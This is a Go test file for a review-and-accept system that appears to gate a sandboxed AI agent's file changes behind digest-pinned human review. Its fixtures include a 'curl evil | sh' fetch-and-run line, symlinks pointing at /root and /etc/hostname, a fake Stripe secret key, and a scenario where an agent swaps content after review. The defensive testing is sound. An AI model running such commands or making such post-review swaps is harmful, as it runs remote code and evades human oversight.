package review_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock/airlock/secretscan/gitleaks"

	"github.com/airlock/airlock/review"
)

// byPath indexes a review.
func byPath(diffs []review.FileDiff) map[string]review.FileDiff {
	m := map[string]review.FileDiff{}
	for _, d := range diffs {
		m[d.Path] = d
	}
	return m
}

// pins is what a client that displayed diffs sends: every file's digest.
func pins(diffs []review.FileDiff) map[string]string {
	m := map[string]string{}
	for _, d := range diffs {
		m[d.ID] = d.Digest
	}
	return m
}

func refusedAsChanged(t *testing.T, err error, path string) {
	t.Helper()
	var ce *review.ChangedError
	if !errors.As(err, &ce) || !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), "changed since you reviewed it") {
		t.Fatalf("want %s refused as changed since the review, got %v", path, err)
	}
}

// blockSum is the documented content hash (docs/API.md): SHA-256 over the
// SHA-256 of each 1 MiB block.
func blockSum(b []byte) []byte {
	outer := sha256.New()
	for off := 0; off < len(b); off += 1 << 20 {
		s := sha256.Sum256(b[off:min(off+1<<20, len(b))])
		outer.Write(s[:])
	}
	return outer.Sum(nil)
}

func docDigest(typ string, mode uint32, from string, content []byte) string {
	h := sha256.New()
	fmt.Fprintf(h, "airlock-digest-v1\ntype %s\nmode %o\n", typ, mode)
	if from != "" {
		fmt.Fprintf(h, "from %s\n", from)
	}
	fmt.Fprintf(h, "content %x\n", blockSum(content))
	return "sha256:" + hex.EncodeToString(h.Sum(nil))
}

// The digests are what docs/API.md says they are, so any client can
// check them; hunk digests pin place and lines where ids are only names.
func TestDigestsAsDocumented(t *testing.T) {
	p := filepath.Join(t.TempDir(), "proj")
	write(t, filepath.Join(p, "gone.txt"), "bye\n", 0o644)
	write(t, filepath.Join(p, "f.txt"), numbered(40, nil), 0o644)
	ws := mountWS(t, p)
	m := ws.Merged()
	big := bytes.Repeat([]byte("0123456789abcdef"), 3<<16+5) // 3 MiB and a bit: copied, not held in memory
	must(t, os.WriteFile(filepath.Join(m, "big.bin"), big, 0o600))
	write(t, filepath.Join(m, "run.sh"), "#!/bin/sh\n", 0o755)
	must(t, os.Chmod(filepath.Join(m, "run.sh"), os.ModeSetuid|0o755))
	must(t, os.Symlink("/root", filepath.Join(m, "home")))
	must(t, os.Remove(filepath.Join(m, "gone.txt")))
	// The same two lines changed at two places: the same hunk lines.
	write(t, filepath.Join(m, "f.txt"), numbered(40, map[int]string{5: "X\n", 30: "X\n"}), 0o644)
	l := review.Layers{Upper: ws.Upper(), Project: p}
	diffs, err := review.Review(l)
	must(t, err)
	by := byPath(diffs)
	for path, want := range map[string]string{
		"big.bin":  docDigest("file", 0o600, "", big),
		"run.sh":   docDigest("file", 0o4755, "", []byte("#!/bin/sh\n")),
		"home":     docDigest("symlink", 0o777, "", []byte("/root")),
		"gone.txt": docDigest("none", 0, "", nil),
	} {
		if got := by[path].Digest; got != want {
			t.Errorf("%s: digest %s, want %s", path, got, want)
		}
	}
	// ReviewWith without hunks (what an accept of whole files reads) gives
	// the same digests.
	fast, err := review.ReviewWith(l, review.Options{})
	must(t, err)
	for _, d := range fast {
		if d.Digest != by[d.Path].Digest {
			t.Errorf("%s: digest %s without hunks, %s with", d.Path, d.Digest, by[d.Path].Digest)
		}
	}
	hs := by["f.txt"].Hunks
	if len(hs) != 2 || hs[0].Digest == "" || hs[0].Digest == hs[1].Digest || !strings.HasPrefix(hs[0].Digest, "sha256:") || len(hs[0].Digest) != 71 {
		t.Fatalf("hunks at two places must have digests of their own: %+v", hs)
	}
	for _, h := range hs {
		s := sha256.New()
		fmt.Fprintf(s, "airlock-hunk-v1\npath %d %s\nold %d,%d\n", len("f.txt"), "f.txt", h.OldStart, h.OldLines)
		for _, l := range h.Lines {
			fmt.Fprintf(s, "%d %s", len(l), l)
		}
		if want := "sha256:" + hex.EncodeToString(s.Sum(nil)); h.Digest != want {
			t.Errorf("hunk %s: digest %s, want %s", h.ID, h.Digest, want)
		}
	}
}

// A file swapped after the user saw the diff and before the accept: the
// accept by digest (what the interface sends) is refused and nothing is
// written, not even the files that did not change.
func TestAcceptByDigestRefusesASwappedFile(t *testing.T) {
	p := filepath.Join(t.TempDir(), "proj")
	write(t, filepath.Join(p, "main.go"), "package main\n", 0o644)
	ws := mountWS(t, p)
	m := ws.Merged()
	write(t, filepath.Join(m, "main.go"), "package main // reviewed\n", 0o644)
	write(t, filepath.Join(m, "other.txt"), "fine\n", 0o644)
	l := review.Layers{Upper: ws.Upper(), Project: p}
	shown, err := review.Review(l)
	must(t, err)
	// The agent swaps the content once the user has looked.
	write(t, filepath.Join(m, "main.go"), "package main // evil\n", 0o644)

	for name, sel := range map[string]review.Selection{
		"everything":   {Digests: pins(shown)},
		"one file":     {Paths: []string{"main.go"}, Digests: pins(shown)},
		"one file, id": {Hunks: []string{byPath(shown)["main.go"].ID}, Digests: pins(shown)},
	} {
		t.Run(name, func(t *testing.T) {
			now, err := review.Review(l) // the accept reviews again
			must(t, err)
			out, err := review.Accept(l, now, sel, journal(t))
			refusedAsChanged(t, err, "main.go")
			if len(out) != 0 {
				t.Errorf("outcomes of a refused accept: %+v", out)
			}
			if got := read(t, filepath.Join(p, "main.go")); got != "package main\n" {
				t.Errorf("main.go on the host: %q", got)
			}
			if _, err := os.Stat(filepath.Join(p, "other.txt")); err == nil {
				t.Errorf("other.txt was written by a refused accept")
			}
		})
	}
	// Pinned to what is there now, it goes through.
	now, err := review.Review(l)
	must(t, err)
	out, err := review.Accept(l, now, review.Selection{Paths: []string{"main.go"}, Digests: pins(now)}, journal(t))
	must(t, err)
	if len(out) != 1 || !out[0].Applied || out[0].Digest != byPath(now)["main.go"].Digest {
		t.Fatalf("%+v", out)
	}
	if got := read(t, filepath.Join(p, "main.go")); got != "package main // evil\n" {
		t.Errorf("main.go on the host: %q", got)
	}
}

// A hunk is pinned by its own digest: another hunk of the file may change
// meanwhile; its own lines may not.
func TestAcceptHunkByDigest(t *testing.T) {
	p, l, m := session(t, numbered(30, nil), false)
	write(t, filepath.Join(m, "f.txt"), numbered(30, map[int]string{2: "TWO\n", 28: "TWENTY-EIGHT\n"}), 0o644)
	shown := fileDiff(t, l, "f.txt")
	first := shown.Hunks[0]
	forged := review.Selection{Hunks: []string{first.ID}, Digests: map[string]string{first.ID: "sha256:" + strings.Repeat("0", 64)}}
	_, err := review.Accept(l, []review.FileDiff{fileDiff(t, l, "f.txt")}, forged, journal(t))
	refusedAsChanged(t, err, "f.txt")

	// The agent changes the other hunk: the pinned one still goes in.
	write(t, filepath.Join(m, "f.txt"), numbered(30, map[int]string{2: "TWO\n", 28: "28!\n"}), 0o644)
	sel := review.Selection{Hunks: []string{first.ID}, Digests: map[string]string{first.ID: first.Digest}}
	_, err = review.Accept(l, []review.FileDiff{fileDiff(t, l, "f.txt")}, sel, journal(t))
	must(t, err)
	if got := read(t, filepath.Join(p, "f.txt")); got != numbered(30, map[int]string{2: "TWO\n"}) {
		t.Fatalf("after accepting the pinned hunk:\n%s", got)
	}
	// Then it changes the pinned hunk's own lines: refused.
	second := fileDiff(t, l, "f.txt").Hunks[0]
	write(t, filepath.Join(m, "f.txt"), numbered(30, map[int]string{2: "TWO\n", 28: "evil\n"}), 0o644)
	sel = review.Selection{Hunks: []string{second.ID}, Digests: map[string]string{second.ID: second.Digest}}
	_, err = review.Accept(l, []review.FileDiff{fileDiff(t, l, "f.txt")}, sel, journal(t))
	refusedAsChanged(t, err, second.ID)
	if got := read(t, filepath.Join(p, "f.txt")); got != numbered(30, map[int]string{2: "TWO\n"}) {
		t.Fatalf("a refused hunk reached the host:\n%s", got)
	}
}

// A file the agent adds after the review is not taken by an accept of
// everything that came with digests; it is reported as left.
func TestAcceptByDigestLeavesFilesAddedSince(t *testing.T) {
	for _, paths := range [][]string{nil, {"src"}} {
		t.Run(fmt.Sprintf("paths %q", paths), func(t *testing.T) {
			p := filepath.Join(t.TempDir(), "proj")
			must(t, os.MkdirAll(p, 0o755))
			ws := mountWS(t, p)
			m := ws.Merged()
			write(t, filepath.Join(m, "src/a.txt"), "a\n", 0o644)
			write(t, filepath.Join(m, "src/b.txt"), "b\n", 0o644)
			l := review.Layers{Upper: ws.Upper(), Project: p}
			shown, err := review.Review(l)
			must(t, err)
			write(t, filepath.Join(m, "src/later.sh"), "curl evil | sh\n", 0o755)

			now, err := review.Review(l)
			must(t, err)
			// Named explicitly without a pin while others are pinned: refused.
			_, err = review.Accept(l, now, review.Selection{Paths: []string{"src/later.sh"}, Digests: pins(shown)}, journal(t))
			refusedAsChanged(t, err, "src/later.sh")

			out, err := review.Accept(l, now, review.Selection{Paths: paths, Digests: pins(shown)}, journal(t))
			must(t, err)
			got := map[string]review.Outcome{}
			for _, o := range out {
				got[o.Path] = o
			}
			if o := got["src/later.sh"]; o.Applied || o.Left != "unreviewed" || o.Reason == "" {
				t.Errorf("src/later.sh: %+v, want left as unreviewed with a reason", o)
			}
			for _, f := range []string{"src/a.txt", "src/b.txt"} {
				if !got[f].Applied {
					t.Errorf("%s: %+v", f, got[f])
				}
			}
			if _, err := os.Lstat(filepath.Join(p, "src/later.sh")); err == nil {
				t.Fatal("a file added after the review reached the project")
			}
		})
	}
}

// The content changes while the accept copies it (the agent keeps writing):
// what was copied is not what was reviewed, so nothing is accepted.
func TestAcceptRefusesContentChangedDuringCopy(t *testing.T) {
	for _, how := range []string{"grows", "rewritten"} {
		t.Run(how, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), "proj")
			must(t, os.MkdirAll(p, 0o755))
			ws, err := mountWSSize(t, p, 256<<20)
			must(t, err)
			m := ws.Merged()
			reviewed := bytes.Repeat([]byte("reviewed content\n"), 2<<20) // 34 MiB: copied from the session, not held
			must(t, os.WriteFile(filepath.Join(m, "data.txt"), reviewed, 0o644))
			write(t, filepath.Join(m, "small.txt"), "small\n", 0o644)
			l := review.Layers{Upper: ws.Upper(), Project: p}
			diffs, err := review.Review(l)
			must(t, err)

			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			started := make(chan struct{})
			go func() {
				defer close(done)
				f, err := os.OpenFile(filepath.Join(m, "data.txt"), os.O_WRONLY, 0)
				if err != nil {
					close(started)
					return
				}
				defer f.Close()
				for i := 0; ctx.Err() == nil; i++ {
					switch how {
					case "grows":
						f.WriteAt([]byte("more\n"), int64(len(reviewed)+5*i))
					case "rewritten":
						f.WriteAt([]byte(fmt.Sprintf("rewrite %09d\n", i)), int64(i*4096%len(reviewed)))
					}
					if i == 0 {
						close(started)
					}
				}
			}()
			<-started
			for _, sel := range []review.Selection{{}, {Digests: pins(diffs)}} {
				out, err := review.Accept(l, diffs, sel, journal(t))
				refusedAsChanged(t, err, "data.txt")
				if len(out) != 0 {
					t.Errorf("outcomes of a refused accept: %+v", out)
				}
			}
			cancel()
			<-done
			entries, _ := os.ReadDir(p)
			for _, e := range entries {
				t.Errorf("left in the project by a refused accept: %s", e.Name())
			}
		})
	}
}

// Reads of the session's files at accept time never go through a symlink
// and never open a FIFO (which would block the engine).
func TestAcceptReadsTheSessionConfined(t *testing.T) {
	for _, swap := range []string{"parent becomes a symlink", "file becomes a FIFO"} {
		t.Run(swap, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), "proj")
			must(t, os.MkdirAll(p, 0o755))
			ws := mountWS(t, p)
			m := ws.Merged()
			content := bytes.Repeat([]byte("x"), 3<<20)
			must(t, os.MkdirAll(filepath.Join(m, "d"), 0o755))
			must(t, os.WriteFile(filepath.Join(m, "d/f.bin"), content, 0o644))
			l := review.Layers{Upper: ws.Upper(), Project: p}
			diffs, err := review.Review(l)
			must(t, err)
			switch swap {
			case "parent becomes a symlink":
				// Elsewhere, the very same bytes: only the path differs.
				outside := t.TempDir()
				must(t, os.WriteFile(filepath.Join(outside, "f.bin"), content, 0o644))
				must(t, os.Rename(filepath.Join(m, "d"), filepath.Join(m, "d2")))
				must(t, os.Symlink(outside, filepath.Join(m, "d")))
			case "file becomes a FIFO":
				must(t, os.Remove(filepath.Join(m, "d/f.bin")))
				must(t, syscall.Mkfifo(filepath.Join(m, "d/f.bin"), 0o644))
			}
			res := make(chan error, 1)
			go func() {
				_, err := review.Accept(l, diffs, review.Selection{Paths: []string{"d/f.bin"}}, journal(t))
				res <- err
			}()
			select {
			case err := <-res:
				if err == nil {
					t.Fatal("the accept read the session's file through the swap")
				}
			case <-time.After(20 * time.Second):
				t.Fatal("the accept blocked on the session's file")
			}
			if _, err := os.Lstat(filepath.Join(p, "d/f.bin")); err == nil {
				t.Error("d/f.bin reached the project")
			}
		})
	}
}

// Accepting everything leaves what a scanner flagged or the policy holds,
// with the reason; naming a change, or IncludeFlagged, takes it. A symlink
// that points out of the project is written as a symlink, never followed.
func TestAcceptEverythingLeavesFlaggedChanges(t *testing.T) {
	p := filepath.Join(t.TempDir(), "proj")
	write(t, filepath.Join(p, "README.md"), "# r\n", 0o644)
	ws, err := mountWSSize(t, p, 64<<20)
	must(t, err)
	m := ws.Merged()
	write(t, filepath.Join(m, "README.md"), "# r\nmore\n", 0o644) // clean
	must(t, os.Symlink("/root", filepath.Join(m, "root-link")))   // symlink_escape
	must(t, os.Mkdir(filepath.Join(m, "docs"), 0o755))
	must(t, os.Symlink("../../../../../../etc/hostname", filepath.Join(m, "docs/host-link")))           // symlink_escape
	write(t, filepath.Join(m, "suid"), "x\n", 0o755)                                                    // setuid (+exec_bit)
	must(t, os.Chmod(filepath.Join(m, "suid"), os.ModeSetuid|0o755))                                    //
	write(t, filepath.Join(m, "keys.txt"), "stripe: sk_live_51H8sdfSDFsdf8sdf8SDF8sdf8sdfSDF\n", 0o644) // secrets
	write(t, filepath.Join(m, "package-lock.json"), "{}\n", 0o644)                                      // held
	f, err := os.Create(filepath.Join(m, "disk.img"))                                                   // large_binary: 40 GB, sparse
	must(t, err)
	must(t, f.Truncate(40<<30))
	f.WriteAt([]byte("header"), 0)
	f.Close()
	l := review.Layers{Upper: ws.Upper(), Project: p}
	check := func() []review.FileDiff {
		t.Helper()
		diffs, err := review.Review(l)
		must(t, err)
		must(t, review.Policy{}.Check(context.Background(), l, diffs, gitleaks.New()))
		return diffs
	}
	flagged := map[string]string{"root-link": "flagged", "docs/host-link": "flagged", "suid": "flagged", "keys.txt": "flagged", "disk.img": "flagged", "package-lock.json": "held"}

	for _, pinned := range []bool{false, true} {
		t.Run(fmt.Sprintf("pinned %v", pinned), func(t *testing.T) {
			diffs := check()
			var sel review.Selection
			if pinned {
				sel.Digests = pins(diffs)
			}
			out, err := review.Accept(l, diffs, sel, journal(t))
			must(t, err)
			left := 0
			for _, o := range out {
				want, isFlagged := flagged[o.Path]
				switch {
				case isFlagged && (o.Applied || o.Left != want || o.Reason == ""):
					t.Errorf("%s: %+v, want left as %s with a reason", o.Path, o, want)
				case !isFlagged && !o.Applied:
					t.Errorf("%s: %+v", o.Path, o)
				case isFlagged:
					left++
				}
			}
			if left != len(flagged) {
				t.Errorf("%d left, want %d: %+v", left, len(flagged), out)
			}
			for path := range flagged {
				if _, err := os.Lstat(filepath.Join(p, path)); err == nil {
					t.Errorf("%s reached the project", path)
				}
			}
		})
	}
	if got := read(t, filepath.Join(p, "README.md")); got != "# r\nmore\n" {
		t.Errorf("README.md: %q", got)
	}

	// Named: taken, the symlink as a symlink.
	out, err := review.Accept(l, check(), review.Selection{Paths: []string{"root-link"}}, journal(t))
	must(t, err)
	if len(out) != 1 || !out[0].Applied {
		t.Fatalf("naming root-link: %+v", out)
	}
	if target, err := os.Readlink(filepath.Join(p, "root-link")); err != nil || target != "/root" {
		t.Errorf("root-link on the host: %q %v", target, err)
	}
	// Everything with IncludeFlagged: the rest.
	out, err = review.Accept(l, check(), review.Selection{IncludeFlagged: true}, journal(t))
	must(t, err)
	for _, o := range out {
		if !o.Applied {
			t.Errorf("with IncludeFlagged %s: %+v", o.Path, o)
		}
	}
	if fi, err := os.Lstat(filepath.Join(p, "docs/host-link")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("docs/host-link is not a symlink on the host: %v %v", fi, err)
	}
	var st syscall.Stat_t
	must(t, syscall.Stat(filepath.Join(p, "disk.img"), &st))
	if st.Size != 40<<30 || st.Blocks*512 > 1<<20 {
		t.Errorf("disk.img on the host: size %d, %d bytes allocated (want 40 GiB, sparse)", st.Size, st.Blocks*512)
	}
	if fi, err := os.Stat(filepath.Join(p, "suid")); err != nil || fi.Mode()&os.ModeSetuid != 0 {
		t.Errorf("suid on the host: %v %v (the bit must be stripped)", fi.Mode(), err)
	}
}
